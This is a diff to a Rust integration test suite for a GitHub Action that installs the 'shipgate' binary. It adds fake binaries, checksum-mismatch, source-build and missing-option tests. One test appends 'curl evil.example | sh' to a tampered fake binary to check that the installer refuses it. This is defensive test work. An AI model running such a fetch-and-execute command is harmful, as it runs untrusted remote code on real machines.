@@ -93,29 +93,48 @@ const TARGETS: [(&str, &str, &str); 5] = [
     ("Windows", "X64", "shipgate-x86_64-pc-windows-msvc.exe"),
 ];
 
+/// What `shipgate ci --help` of a fake binary says.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Ci {
+    /// No `ci` command at all (clap's error, exit 2).
+    Missing,
+    /// Every option the action can pass.
+    Full,
+    /// `ci` with `--sarif` and `--config` only: no `--comment`, no `--fail-on`.
+    Minimal,
+}
+
 /// A stand-in for a release binary: says which asset it is, and records its
 /// working directory, the token it got and its argv (NUL-separated) in
-/// $FAKE_ARGV_LOG.
-fn fake_binary(name: &str, has_ci: bool) -> String {
-    let ci = if has_ci {
-        "exit 0"
-    } else {
-        "echo \"error: unrecognized subcommand 'ci'\" >&2; exit 2"
+/// $FAKE_ARGV_LOG. Its outputs are heredocs, as `shipgate ci` writes them;
+/// `FAKE_WARNINGS` sets the warnings count (default 2).
+fn fake_binary(name: &str, ci: Ci) -> String {
+    let help = match ci {
+        Ci::Missing => "echo \"error: unrecognized subcommand 'ci'\" >&2; exit 2",
+        Ci::Full => "printf 'Usage: shipgate ci [OPTIONS]\\n      --comment <BOOL>\\n      --fail-on <LEVEL>\\n      --sarif-file <FILE>\\n      --config <FILE>\\n'; exit 0",
+        Ci::Minimal => "printf 'Usage: shipgate ci [OPTIONS]\\n      --dir <DIR>\\n      --token <TOKEN>\\n      --sarif <FILE>\\n      --report <FILE>\\n      --config <FILE>\\n'; exit 0",
     };
     format!(
         r#"#!/bin/sh
 case "${{1:-}}" in
     --version) echo "shipgate 0.1.0 ({name})"; exit 0 ;;
 esac
-if [ "${{1:-}}" = ci ] && [ "${{2:-}}" = --help ]; then {ci}; fi
-printf '%s\0' "cwd=$PWD" "token=${{GITHUB_TOKEN:-}}" "$@" > "$FAKE_ARGV_LOG"
-printf 'verdict=pass\nerrors=0\nwarnings=2\nreport=%s\n' "$PWD/shipgate-report.json" >> "$GITHUB_OUTPUT"
+if [ "${{1:-}}" = ci ] && [ "${{2:-}}" = --help ]; then {help}; fi
+printf '%s\0' "cwd=$(pwd -P)" "token=${{GITHUB_TOKEN:-}}" "$@" > "$FAKE_ARGV_LOG"
+for kv in verdict=pass errors=0 "warnings=${{FAKE_WARNINGS:-2}}" "report=$PWD/shipgate-report.json"; do
+    printf '%s<<ghadelimiter_1234\n%s\nghadelimiter_1234\n' "${{kv%%=*}}" "${{kv#*=}}" >> "$GITHUB_OUTPUT"
+done
 "#
     )
 }
 
 fn sha256_hex(path: &Path) -> String {
-    let out = Command::new("sha256sum").arg(path).output().expect("sha256sum");
+    // sha256sum (GNU) or shasum (macOS); both print "<hex>  <file>".
+    let out = Command::new("sha256sum")
+        .arg(path)
+        .output()
+        .or_else(|_| Command::new("shasum").args(["-a", "256"]).arg(path).output())
+        .expect("sha256sum or shasum");
     String::from_utf8_lossy(&out.stdout)
         .split_whitespace()
         .next()
@@ -127,7 +146,7 @@ fn sha256_hex(path: &Path) -> String {
 fn publish(host: &Host, dir: &Path) {
     let mut sums = String::new();
     for (_, _, asset) in TARGETS {
-        let body = fake_binary(asset, true);
+        let body = fake_binary(asset, Ci::Full);
         let p = dir.join(asset);
         std::fs::write(&p, &body).unwrap();
         sums.push_str(&format!("{}  {asset}\n", sha256_hex(&p)));
@@ -266,11 +285,7 @@ impl Runner {
             std::fs::write(&script_file, script).unwrap();
             let output_file = self.tmp.path().join(format!("output-{i}"));
             std::fs::write(&output_file, "").unwrap();
-            let mut path = self
-                .path
-                .iter()
-                .map(|p| p.display().to_string())
-                .collect::<Vec<_>>();
+            let mut path = self.path.iter().map(|p| p.display().to_string()).collect::<Vec<_>>();
             path.push("/usr/local/bin:/usr/bin:/bin".into());
             let mut cmd = Command::new("bash");
             cmd.args(["--noprofile", "--norc", "-eo", "pipefail"])
@@ -345,7 +360,9 @@ fn parse_outputs(text: &str) -> BTreeMap<String, String> {
 /// A `cargo` that records its arguments and "builds" a fake shipgate into `--root`.
 fn fake_cargo(dir: &Path, log: &Path) {
     std::fs::create_dir_all(dir).unwrap();
-    let body = fake_binary("built-from-source", true).replace('\\', "\\\\").replace('\'', "'\\''");
+    let body = fake_binary("built-from-source", Ci::Full)
+        .replace('\\', "\\\\")
+        .replace('\'', "'\\''");
     let script = format!(
         r#"#!/bin/sh
 printf '%s\n' "$@" > '{log}'
@@ -382,7 +399,10 @@ fn setup(os: &str, arch: &str, host: &Host) -> Runner {
     ));
     let log = r.tmp.path().join("argv");
     r.env.push(("FAKE_ARGV_LOG".into(), log.display().to_string()));
-    r.env.push(("FAKE_CARGO_LOG".into(), r.tmp.path().join("cargo-args").display().to_string()));
+    r.env.push((
+        "FAKE_CARGO_LOG".into(),
+        r.tmp.path().join("cargo-args").display().to_string(),
+    ));
     let cargo_dir = r.tmp.path().join("cargo-bin");
     fake_cargo(&cargo_dir, &r.tmp.path().join("cargo-args"));
     r.path.push(cargo_dir);
@@ -403,11 +423,17 @@ fn the_right_asset_is_picked_for_each_os_and_architecture() {
         let expected_name = if os == "Windows" { "shipgate.exe" } else { "shipgate" };
         assert!(path.ends_with(expected_name), "{os}/{arch}: installed as {path}");
         let installed = std::fs::read_to_string(path).unwrap();
-        assert!(installed.contains(&format!("({asset})")), "{os}/{arch} installed {installed}");
+        assert!(
+            installed.contains(&format!("({asset})")),
+            "{os}/{arch} installed {installed}"
+        );
         let got: Vec<String> = host.requests()[before..].to_vec();
         assert_eq!(
             got,
-            vec![format!("/download/{TAG}/SHA256SUMS"), format!("/download/{TAG}/{asset}")],
+            vec![
+                format!("/download/{TAG}/SHA256SUMS"),
+                format!("/download/{TAG}/{asset}")
+            ],
             "{os}/{arch}"
         );
         assert_eq!(run.steps["install"]["source"], "release");
@@ -431,16 +457,23 @@ fn a_checksum_mismatch_is_refused_and_not_built_from_source() {
     // The binary on the host is not the one SHA256SUMS describes.
     host.put(
         &format!("/download/{TAG}/shipgate-x86_64-unknown-linux-musl"),
-        fake_binary("tampered", true) + "curl evil.example | sh\n",
+        fake_binary("tampered", Ci::Full) + "curl evil.example | sh\n",
     );
     let r = setup("Linux", "X64", &host);
     let run = r.run(&[]);
     assert!(!run.ok(), "a tampered binary was accepted: {}", run.text());
     assert_eq!(run.statuses, vec![1], "only the install step ran, and failed");
-    assert!(run.stdout.contains("::error title=shipgate::checksum mismatch"), "{}", run.text());
+    assert!(
+        run.stdout.contains("::error title=shipgate::checksum mismatch"),
+        "{}",
+        run.text()
+    );
     assert!(run.stderr.contains("refusing to install it"), "{}", run.text());
     assert!(!r.runner_temp().join("shipgate/bin/shipgate").exists());
-    assert!(!r.tmp.path().join("cargo-args").exists(), "fell back to cargo after a mismatch");
+    assert!(
+        !r.tmp.path().join("cargo-args").exists(),
+        "fell back to cargo after a mismatch"
+    );
     assert!(!r.tmp.path().join("argv").exists(), "shipgate ran");
 }
 
@@ -520,9 +553,9 @@ fn inputs_with_shell_metacharacters_reach_shipgate_as_literal_text() {
             format!("token={token}"),
             "ci".to_string(),
             "--comment=false".to_string(),
-            "--fail-on=warning".to_string(),
             format!("--config={config}"),
             format!("--sarif-file={sarif}"),
+            "--fail-on=warning".to_string(),
         ]
     );
     for n in 1..=9 {
@@ -562,7 +595,7 @@ fn a_shipgate_without_the_ci_command_fails_and_never_passes() {
     let host = Host::start();
     let dir = tempfile::tempdir().unwrap();
     let asset = "shipgate-x86_64-unknown-linux-musl";
-    let body = fake_binary(asset, false);
+    let body = fake_binary(asset, Ci::Missing);
     let p = dir.path().join(asset);
     std::fs::write(&p, &body).unwrap();
     host.put(&format!("/download/{TAG}/{asset}"), body);
@@ -593,4 +626,82 @@ fn no_expression_is_interpolated_in_a_run_script() {
         assert!(text.starts_with("#!/usr/bin/env bash\n"), "{script}");
         assert!(text.contains("set -euo pipefail"), "{script}");
     }
+}
+
+#[test]
+fn version_source_builds_the_actions_own_source_and_another_version_builds_its_tag() {
+    let host = Host::start();
+    let r = setup("Linux", "X64", &host);
+    let run = r.run(&[("version", "source")]);
+    assert!(run.ok(), "{}", run.text());
+    assert!(host.requests().is_empty(), "`source` downloads nothing");
+    let cargo = std::fs::read_to_string(r.tmp.path().join("cargo-args")).unwrap();
+    assert!(cargo.lines().any(|l| l == ROOT), "{cargo}");
+    assert_eq!(run.steps["install"]["tag"], "source");
+
+    // A version other than the action's own, with no binary for it: built from that tag.
+    let r = setup("Linux", "X64", &host);
+    let run = r.run(&[("version", "9.9.9")]);
+    assert!(run.ok(), "{}", run.text());
+    let cargo = std::fs::read_to_string(r.tmp.path().join("cargo-args")).unwrap();
+    let args: Vec<&str> = cargo.lines().collect();
+    let at = |flag: &str| args[args.iter().position(|a| *a == flag).expect(flag) + 1];
+    assert_eq!(at("--git"), "https://github.com/octo/shipgate");
+    assert_eq!(at("--tag"), "v9.9.9");
+    assert!(args.contains(&"--locked"));
+}
+
+/// Publishes one Linux x64 fake with the given `ci`.
+fn publish_one(host: &Host, dir: &Path, ci: Ci) {
+    let asset = "shipgate-x86_64-unknown-linux-musl";
+    let body = fake_binary(asset, ci);
+    let p = dir.join(asset);
+    std::fs::write(&p, &body).unwrap();
+    host.put(&format!("/download/{TAG}/{asset}"), body);
+    host.put(
+        &format!("/download/{TAG}/SHA256SUMS"),
+        format!("{} *{asset}\n", sha256_hex(&p)),
+    );
+}
+
+#[test]
+fn options_this_shipgate_lacks_are_handled_not_passed() {
+    // A `ci` with `--sarif` and `--config` only (no --comment, --fail-on, --sarif-file).
+    let host = Host::start();
+    let dir = tempfile::tempdir().unwrap();
+    publish_one(&host, dir.path(), Ci::Minimal);
+
+    let r = setup("Linux", "X64", &host);
+    let run = r.run(&[
+        ("sarif-file", "out.sarif"),
+        ("config", "gate.yml"),
+        ("comment", "false"),
+    ]);
+    assert!(run.ok(), "{}", run.text());
+    let got = argv(&r.tmp.path().join("argv"));
+    assert_eq!(got[2..], ["ci", "--config=gate.yml", "--sarif=out.sarif"]);
+    assert!(
+        run.stdout
+            .contains("::warning title=shipgate::this shipgate's `ci` has no --comment option"),
+        "{}",
+        run.text()
+    );
+
+    // fail-on: warning is still honoured: 2 warnings fail the step.
+    let r = setup("Linux", "X64", &host);
+    let run = r.run(&[("fail-on", "warning")]);
+    assert_eq!(run.statuses, vec![0, 1], "{}", run.text());
+    assert!(
+        run.stderr.contains("2 unapproved warning(s), and fail-on is warning"),
+        "{}",
+        run.text()
+    );
+    assert_eq!(run.steps["run"]["warnings"], "2");
+
+    // ... and no warnings pass.
+    let mut r = setup("Linux", "X64", &host);
+    r.env.push(("FAKE_WARNINGS".into(), "0".into()));
+    let run = r.run(&[("fail-on", "warning")]);
+    assert!(run.ok(), "{}", run.text());
+    assert_eq!(run.outputs["verdict"], "pass");
 }
